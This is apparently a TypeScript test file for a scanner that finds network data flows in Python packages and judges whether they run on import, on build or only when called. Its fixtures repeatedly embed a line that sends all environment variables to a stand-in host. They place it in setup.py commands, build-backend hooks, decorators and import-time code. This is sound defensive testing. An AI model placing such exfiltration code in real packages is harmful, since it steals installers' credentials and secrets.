import t from 'tap'
import { seenFlows } from '../../src/checks/seen-flows.ts'
import { buildCodeIndex } from '../../src/inspection/code-index.ts'
import { readingOf } from './python-reading.ts'

const IMPORTS = 'import json, os, urllib.request\n'
const SEND = 'urllib.request.urlopen("https://c.invalid", data=json.dumps(dict(os.environ)).encode())'
const IN_FUNCTION = `${IMPORTS}def go():\n    ${SEND}\n`

/** A command of setup.py whose `run` sends. */
const command = (base: string): string =>
  `${IMPORTS}from setuptools import setup, Command\nclass Own(${base}):\n    def run(self):\n        ${SEND}\n`

/** A back end in the tree whose hook sends. */
const backend = (object: string, code: string) => ({
  'pyproject.toml': `[build-system]\nrequires = []\nbuild-backend = "own${object}"\nbackend-path = ["a/.."]\n`,
  'own.py': IMPORTS + code,
})

interface Case {
  readonly name: string
  readonly kind: 'wheel' | 'sdist'
  readonly files: Readonly<Record<string, string>>
  /** moment of the flow, in brackets where it waits to be called */
  readonly want: string
}

const CASES: readonly Case[] = [
  {
    name: 'below the question for __main__ it waits, in a module that is imported',
    kind: 'wheel',
    files: { 'a.py': `${IN_FUNCTION}if __name__ == '__main__':\n    go()\n` },
    want: '(import)',
  },
  {
    name: 'also where more is asked, the other way round, and inside of try',
    kind: 'wheel',
    files: {
      'a.py': `import sys\n${IN_FUNCTION}try:\n    if len(sys.argv) > 1 and "__main__" == __name__:\n        go()\nexcept OSError: pass\n`,
    },
    want: '(import)',
  },
  {
    name: 'what stands beside it does not wait',
    kind: 'wheel',
    files: { 'a.py': `${IN_FUNCTION}if __name__ == '__main__':\n    pass\nelse:\n    go()\n` },
    want: 'import',
  },
  {
    name: 'nor where either answer will do',
    kind: 'wheel',
    files: { 'a.py': `${IN_FUNCTION}if __name__ == '__main__' or True:\n    go()\n` },
    want: 'import',
  },
  {
    name: 'a __main__.py is a program',
    kind: 'wheel',
    files: { 'a/__init__.py': '', 'a/__main__.py': `${IN_FUNCTION}if __name__ == '__main__':\n    go()\n` },
    want: 'called',
  },
  {
    name: 'a module that an import starts as a program is one',
    kind: 'wheel',
    files: {
      'a/__init__.py':
        'import subprocess, sys\nfrom . import core\nsubprocess.Popen([sys.executable, "-m", "a.core"])\n',
      'a/core.py': `${IN_FUNCTION}if __name__ == '__main__':\n    go()\n`,
    },
    want: 'import',
  },
  {
    name: 'setup.py is a program',
    kind: 'sdist',
    files: { 'setup.py': `${IN_FUNCTION}if __name__ == '__main__':\n    go()\n` },
    want: 'build',
  },
  {
    name: 'a command that no build runs waits',
    kind: 'sdist',
    files: { 'setup.py': `${command('Command')}setup(name='a', cmdclass={'test': Own, 'upload': Own})\n` },
    want: '(build)',
  },
  {
    name: 'one that every build runs does not',
    kind: 'sdist',
    files: { 'setup.py': `${command('Command')}setup(name='a', cmdclass={'test': Own, 'egg_info': Own})\n` },
    want: 'build',
  },
  {
    name: 'nor where its name is put in later, or computed',
    kind: 'sdist',
    files: {
      'setup.py': `${command('Command')}c = {}\nfor n in open('x'):\n    c[n] = Own\nsetup(name='a', cmdclass=c)\n`,
    },
    want: 'build',
  },
  {
    name: 'nor where its base has the code',
    kind: 'sdist',
    files: {
      'setup.py': `${command('Command')}class Build(Own): pass\nsetup(name='a', cmdclass=dict(build_py=Build))\n`,
    },
    want: 'build',
  },
  {
    name: 'nor where another command starts it',
    kind: 'sdist',
    files: {
      'setup.py': `${command('Command')}class Build(Command):\n    def run(self):\n        self.run_command('spy')\nsetup(name='a', cmdclass={'spy': Own, 'build': Build})\n`,
    },
    want: 'build',
  },
  {
    name: 'nor where setup.cfg gives a build command its name',
    kind: 'sdist',
    files: {
      'setup.py': `${command('Command')}setup(name='a', cmdclass={'spy': Own})\n`,
      'setup.cfg': '[aliases]\negg_info = spy egg_info\n',
    },
    want: 'build',
  },
  {
    name: 'commands of a folder that setup.cfg names',
    kind: 'sdist',
    files: {
      'setup.py': 'from setuptools import setup\nsetup()\n',
      'setup.cfg': '[global]\ncommand-packages = own\n',
      'own/build_py.py': `${IMPORTS}${SEND}\n`,
    },
    want: 'build',
  },
  {
    name: 'the hooks of a back end in the tree are called by who builds',
    kind: 'sdist',
    files: backend('', `def get_requires_for_build_wheel(config=None):\n    ${SEND}\n`),
    want: 'build',
  },
  {
    name: 'also those of an object',
    kind: 'sdist',
    files: backend(':it', `class B:\n    def build_sdist(self, d):\n        ${SEND}\nit = B()\n`),
    want: 'build',
  },
  {
    name: 'its other functions are not',
    kind: 'sdist',
    files: backend('', `def build_docs():\n    ${SEND}\n`),
    want: '(build)',
  },
  {
    name: 'a method of a class of another module, made and called while it is imported',
    kind: 'wheel',
    files: {
      'a/__init__.py': 'from .core import Core\nCore().start()\n',
      'a/core.py': `${IMPORTS}class Core:\n    def start(self):\n        ${SEND}\n`,
    },
    want: 'import',
  },
  {
    name: 'a function of a third file, which one in between loads and calls, in a thread of its own',
    kind: 'sdist',
    files: {
      'setup.py': `from setuptools import setup\nfrom setuptools.command.install import install\nclass Own(install):\n    def run(self):\n        install.run(self)\n        from a import hook\n        hook()\nsetup(name='a', cmdclass={'install': Own})\n`,
      'PKG-INFO': 'Name: a\n',
      'a/__init__.py':
        'def hook():\n    import threading\n    from .core import go\n    threading.Thread(target=go).start()\n',
      'a/core.py': IN_FUNCTION,
    },
    want: 'build',
  },
  {
    name: 'the same where nothing calls the one in between',
    kind: 'sdist',
    files: {
      'setup.py': `from setuptools import setup\nfrom a import hook\nsetup(name='a')\n`,
      'PKG-INFO': 'Name: a\n',
      'a/__init__.py': 'def hook():\n    from .core import go\n    go()\n',
      'a/core.py': IN_FUNCTION,
    },
    want: '(import)',
  },
  {
    name: 'a function of a module that setup.py loads by its path',
    kind: 'sdist',
    files: {
      'setup.py': `import importlib.util, os\nfrom setuptools import setup\nspec = importlib.util.spec_from_file_location("h", os.path.join(os.path.dirname(__file__), "a", "hook.py"))\nhook = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(hook)\nhook.go()\nsetup(name='a')\n`,
      'a/hook.py': IN_FUNCTION,
    },
    want: 'build',
  },
  {
    name: 'a function of the package that a program in a command line calls',
    kind: 'sdist',
    files: {
      'setup.py': `import subprocess, sys\nfrom setuptools import setup\nsubprocess.run([sys.executable, '-c', 'import a.hook; a.hook.go()'])\nsetup(name='a')\n`,
      'a/__init__.py': '',
      'a/hook.py': IN_FUNCTION,
    },
    want: 'build',
  },
  {
    name: 'a decorator of another module, in a module of which no word acts',
    kind: 'wheel',
    files: {
      'a/__init__.py': 'from .tools import greet\n',
      'a/tools.py': 'from .marks import (\n    go as mark,\n)\n@mark\ndef greet():\n    print("hello")\n',
      'a/marks.py': IN_FUNCTION.replace('go()', 'go(function)'),
    },
    want: 'import',
  },
  {
    name: 'a function that another one calls there, in a module of which no word acts',
    kind: 'wheel',
    files: {
      'a/__init__.py': 'from .tools import begin\nbegin()\n',
      'a/tools.py': 'def begin():\n    from .marks import go\n    go()\n',
      'a/marks.py': IN_FUNCTION,
    },
    want: 'import',
  },
  {
    name: 'one below a function there',
    kind: 'wheel',
    files: {
      'a/__init__.py': 'from .tools import greet\n',
      'a/tools.py': 'from .marks import go\ndef greet():\n    go()\n    print("hello")\n',
      'a/marks.py': IN_FUNCTION,
    },
    want: '(import)',
  },
  {
    name: 'also where its parameters, or its words, stand in many lines',
    kind: 'wheel',
    files: {
      'a/__init__.py': 'from .tools import greet\n',
      'a/tools.py':
        'from .marks import go\ndef greet(\n    name,\n) -> None:\n    """Says\nhello."""\n    go()\n    print("hello")\n',
      'a/marks.py': IN_FUNCTION,
    },
    want: '(import)',
  },
  {
    name: 'a function that is made a method waits',
    kind: 'sdist',
    files: {
      'setup.py': `from setuptools import setup\nimport a\nsetup(name='a')\n`,
      'PKG-INFO': 'Name: a\n',
      'a/__init__.py': 'from . import core\nclass View:\n    go = staticmethod(core.go)\n',
      'a/core.py': IN_FUNCTION,
    },
    want: '(build)',
  },
  {
    name: 'what such a class does when it is made',
    kind: 'wheel',
    files: {
      'a/__init__.py': 'from .core import Core\nCore()\n',
      'a/core.py': `${IMPORTS}class Core:\n    def __init__(self):\n        ${SEND}\n`,
    },
    want: 'import',
  },
]

for (const { name, kind, files, want } of CASES)
  t.test(name, async (t) => {
    const flows = seenFlows(buildCodeIndex(readingOf(kind, files), 'pypi')).filter(
      ({ flow }) => flow.sink.kind === 'network',
    )
    t.same(
      flows.map(({ moment, live, flow }) =>
        live || (moment === 'called' && flow.sink.deferred !== true) ? moment : `(${moment})`,
      ),
      [want],
    )
  })
